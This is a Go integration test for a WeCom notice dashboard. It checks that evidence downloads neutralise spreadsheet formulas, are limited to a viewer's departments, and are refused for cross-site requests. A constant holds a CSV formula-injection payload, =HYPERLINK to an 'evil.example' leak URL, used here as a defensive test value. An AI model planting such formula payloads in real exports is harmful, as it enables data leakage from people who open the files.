package process

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"io"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"golang.org/x/crypto/bcrypt"

	"github.com/yidu-io/yidu"
	"github.com/yidu-io/yidu/cmd/internal/config"
	"github.com/yidu-io/yidu/evidence"
	"github.com/yidu-io/yidu/internal/fakewecom"
	"github.com/yidu-io/yidu/internal/testenv"
)

// Issue 46 finding 7's evidence items on the real processes (MariaDB,
// Redis, Kafka, the fake WeCom, the directory synced from it), played
// through the dashboard's API: what an evidence download lets out must
// be what export.csv lets out.

const (
	// formulaName is a WeCom member's name a spreadsheet would run.
	formulaName = `=HYPERLINK("http://evil.example/?leak","点我")`
	leadUser    = "lead2"
	leadPass    = "研发 leader's password"
)

// mustRunSynced runs yidu against a fake WeCom holding corp (its app's
// secret campaignSecret) with edit applied, the directory synced as
// `yidu directory sync` does.
func mustRunSynced(t *testing.T, corp fakewecom.Corp, edit func(*config.Config)) (*Main, *fakewecom.Server) {
	t.Helper()
	fake := fakewecom.New(corp)
	base := fakewecom.Start(t, fake)
	m := mustRunMainWith(t, func(c *config.Config) {
		c.WeCom.APIBase = base
		c.Apps[0].Secret = campaignSecret
		if edit != nil {
			edit(c)
		}
	})
	syncDirectory(t, m)
	return m, fake
}

// signIn signs in to the dashboard's form as a browser would and
// returns the browser: a client keeping the session cookie that follows
// no redirect.
func signIn(t *testing.T, m *Main, user, pass string) *http.Client {
	t.Helper()
	jar, err := cookiejar.New(nil)
	testenv.Check(t, "cookie jar", err)
	c := &http.Client{Jar: jar, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	resp, err := c.PostForm("http://"+m.DashboardAddr+"/login", url.Values{"username": {user}, "password": {pass}})
	testenv.Check(t, "sign in", err)
	resp.Body.Close()
	if resp.StatusCode != http.StatusSeeOther || len(jar.Cookies(&url.URL{Scheme: "http", Host: m.DashboardAddr})) == 0 {
		t.Fatalf("sign in as %s = %d; want 303 with a session", user, resp.StatusCode)
	}
	return c
}

// browse GETs an API path with the browser's session and the headers a
// browser would send (header names, values); it answers the status and
// the body.
func browse(t *testing.T, c *http.Client, m *Main, path string, header ...string) (int, []byte) {
	t.Helper()
	req, _ := http.NewRequest("GET", "http://"+m.DashboardAddr+"/api/v1"+path, nil)
	for i := 0; i+1 < len(header); i += 2 {
		req.Header.Set(header[i], header[i+1])
	}
	resp, err := c.Do(req)
	testenv.Check(t, "GET "+path, err)
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	testenv.Check(t, "read "+path, err)
	return resp.StatusCode, b
}

// zipFile is the content of name in the ZIP z.
func zipFile(t *testing.T, z []byte, name string) []byte {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(z), int64(len(z)))
	testenv.Check(t, "zip", err)
	for _, f := range zr.File {
		if f.Name == name {
			rc, err := f.Open()
			testenv.Check(t, "open "+name, err)
			defer rc.Close()
			b, err := io.ReadAll(rc)
			testenv.Check(t, "read "+name, err)
			return b
		}
	}
	t.Fatalf("the ZIP has no %s", name)
	return nil
}

// csvCellOf is the cell of the row whose first cell is first, in the
// column named col of the CSV b.
func csvCellOf(t *testing.T, b []byte, col, first string) string {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	testenv.Check(t, "csv", err)
	if len(rows) == 0 {
		t.Fatalf("empty CSV")
	}
	i := slices.Index(rows[0], col)
	for _, r := range rows[1:] {
		if i >= 0 && strings.TrimPrefix(r[0], "'") == first {
			return r[i]
		}
	}
	t.Fatalf("no row of %s with a %s column in:\n%s", first, col, b)
	return ""
}

// TestEvidenceDisclosedAsExport is finding 7's evidence items: a member
// whose name is a spreadsheet formula (eve), a member of 研发 and 销售
// both (shuang) and one of 销售 (mallory) get a notice. (a) The evidence
// pack's manifest.csv neutralises eve's name as export.csv does
// (yidu.CSVCell). (b) A viewer kept to 研发, signed in with a password,
// downloads shuang's evidence as JSON, PDF and in the ZIP: 研发 is
// there, 销售 (outside their scope) nowhere, and the ZIP holds nobody
// outside 研发. (c) Each evidence download in that session is refused
// (403) without a sign it came from this site (no Sec-Fetch-Site and no
// Referer, another site's Referer, Sec-Fetch-Site cross-site) and passes
// with one (same-origin, this host's Referer), as export.csv.
func TestEvidenceDisclosedAsExport(t *testing.T) {
	hash, err := bcrypt.GenerateFromPassword([]byte(leadPass), bcrypt.MinCost)
	testenv.Check(t, "bcrypt", err)
	corp := campaignCorp()
	corp.Users = append(corp.Users, fakewecom.User{UserID: "eve", Name: formulaName, Departments: []int{2}},
		fakewecom.User{UserID: "shuang", Name: "双岗", Departments: []int{2, 3}})
	m, _ := mustRunSynced(t, corp, func(c *config.Config) {
		c.Dashboard.Users = []config.User{{Name: leadUser, PasswordHash: string(hash), Grant: config.Grant{Role: "viewer", Corp: testCorp, Departments: []int64{2}}}}
	})
	const msg = "ev-disclose"
	if code := api(t, m, "POST", "/messages", map[string]any{"msgid": msg, "app": "hr", "title": "考勤制度",
		"audience": map[string]any{"userids": []string{"eve", "shuang", "mallory"}}, "send": true,
		"content": map[string]any{"markdown": "九点上班。"}}, nil); code != http.StatusCreated {
		t.Fatalf("send = %d; want 201", code)
	}

	t.Run("manifest.csv neutralises a formula as export.csv", func(t *testing.T) {
		want := yidu.CSVCell(formulaName)
		if want == formulaName {
			t.Fatalf("CSVCell(%q) leaves it as it is", formulaName)
		}
		pack := getAPI(t, m, "/messages/"+msg+"/evidence.zip")
		if got := csvCellOf(t, zipFile(t, pack, "manifest.csv"), "name", "eve"); got != want {
			t.Errorf("manifest.csv has eve's name as %q; want %q (as export.csv)", got, want)
		}
		if got := csvCellOf(t, getAPI(t, m, "/messages/"+msg+"/export.csv?state=all"), "name", "eve"); got != want {
			t.Errorf("export.csv has eve's name as %q; want %q", got, want)
		}
	})

	lead := signIn(t, m, leadUser, leadPass)
	sameOrigin := []string{"Sec-Fetch-Site", "same-origin"}

	t.Run("a scoped viewer sees departments in scope only", func(t *testing.T) {
		code, b := browse(t, lead, m, "/messages/"+msg+"/evidence/shuang", sameOrigin...)
		if code != http.StatusOK {
			t.Fatalf("shuang's evidence for the 研发 viewer = %d %s; want 200", code, b)
		}
		var rec evidence.Record
		testenv.Check(t, "decode", json.Unmarshal(b, &rec))
		if names := departmentNames(rec.Person.Departments); !slices.Equal(names, []string{"研发"}) {
			t.Errorf("JSON: shuang's departments for the 研发 viewer = %v; want [研发] (销售 is outside their scope)", names)
		}
		code, pdf := browse(t, lead, m, "/messages/"+msg+"/evidence/shuang.pdf", sameOrigin...)
		if code != http.StatusOK {
			t.Fatalf("shuang's PDF for the 研发 viewer = %d; want 200", code)
		}
		if text, ok := pdfText(t, pdf); ok && (!strings.Contains(text, "研发") || strings.Contains(text, "销售")) {
			t.Errorf("PDF: shuang's 告知确认书 for the 研发 viewer names 销售 or not 研发:\n%s", text)
		}
		code, pack := browse(t, lead, m, "/messages/"+msg+"/evidence.zip", sameOrigin...)
		if code != http.StatusOK {
			t.Fatalf("evidence.zip for the 研发 viewer = %d %s; want 200", code, pack)
		}
		var inZIP evidence.Record
		testenv.Check(t, "decode record.json", json.Unmarshal(zipFile(t, pack, "shuang/record.json"), &inZIP))
		if names := departmentNames(inZIP.Person.Departments); !slices.Equal(names, []string{"研发"}) {
			t.Errorf("ZIP: shuang/record.json's departments = %v; want [研发]", names)
		}
		if manifest := zipFile(t, pack, "manifest.csv"); bytes.Contains(manifest, []byte("mallory")) || bytes.Contains(pack, []byte("销售")) {
			t.Errorf("the 研发 viewer's ZIP holds mallory or names 销售:\n%s", manifest)
		}
	})

	t.Run("downloads held to this site", func(t *testing.T) {
		here := "http://" + m.DashboardAddr + "/m/" + msg
		paths := []string{"/export.csv?state=all", "/evidence/shuang", "/evidence/shuang.pdf", "/evidence.zip"}
		sites := []struct {
			name   string
			header []string
			want   int
		}{
			{"no Sec-Fetch-Site, no Referer", nil, http.StatusForbidden},
			{"another site's Referer", []string{"Referer", "https://evil.example/m/" + msg}, http.StatusForbidden},
			{"Sec-Fetch-Site cross-site", []string{"Sec-Fetch-Site", "cross-site"}, http.StatusForbidden},
			{"Sec-Fetch-Site same-origin", sameOrigin, http.StatusOK},
			{"this host's Referer", []string{"Referer", here}, http.StatusOK},
		}
		for _, s := range sites {
			for _, p := range paths {
				if code, _ := browse(t, lead, m, "/messages/"+msg+p, s.header...); code != s.want {
					t.Errorf("%s, GET %s = %d; want %d (as export.csv)", s.name, p, code, s.want)
				}
			}
		}
	})
}

// departmentNames are ds' names.
func departmentNames(ds []evidence.Department) []string {
	var out []string
	for _, d := range ds {
		out = append(out, d.Name)
	}
	return out
}

// pdfText is pdftotext's text of pdf; ok is false without pdftotext.
func pdfText(t *testing.T, pdf []byte) (string, bool) {
	t.Helper()
	bin, err := exec.LookPath("pdftotext")
	if err != nil {
		t.Logf("no pdftotext: the PDF's text is not checked")
		return "", false
	}
	file := filepath.Join(t.TempDir(), "evidence.pdf")
	testenv.Check(t, "write PDF", os.WriteFile(file, pdf, 0o600))
	out, err := exec.Command(bin, "-layout", file, "-").Output()
	testenv.Check(t, "pdftotext", err)
	return string(out), true
}
